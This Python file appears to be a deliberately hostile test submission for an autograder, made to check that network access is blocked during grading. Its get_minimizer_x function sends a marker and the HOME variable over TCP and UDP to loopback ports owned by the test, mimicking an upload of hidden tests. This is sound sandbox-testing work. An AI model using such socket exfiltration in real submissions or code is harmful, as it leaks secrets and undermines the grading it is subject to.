# HOSTILE CASE: talk to the network.
# Assignment: ps1_gradient_descent
# Tries: opens a TCP connection to 127.0.0.1:@@PORT@@ and sends a UDP datagram to 127.0.0.1:@@UDPPORT@@
#        (both sockets belong to the test), sending its marker and whatever secrets it could read --
#        the way a submission would upload the hidden tests or fetch answers.
# Honest: gradient_descent is correct (may earn full marks); get_minimizer_x is wrong (must earn nothing).
# Bounded: one connection and one datagram per call, 2-second timeouts, loopback only.
import os
import socket

import numpy as np

PORT = int("@@PORT@@")
UDPPORT = int("@@UDPPORT@@")
PAYLOAD = b"@@MARKER@@ " + os.environ.get("HOME", "").encode()


def get_minimizer_x(iterations, learning_rate, init):
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
            s.sendall(PAYLOAD)
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
            u.sendto(PAYLOAD, ("127.0.0.1", UDPPORT))
    except OSError:
        pass
    return init + 1.0  # wrong on purpose


def gradient_descent(grad_fn, x0, learning_rate, iterations):
    x = np.array(x0, dtype=float)
    for _ in range(iterations):
        x = x - learning_rate * np.asarray(grad_fn(x), dtype=float)
    return x
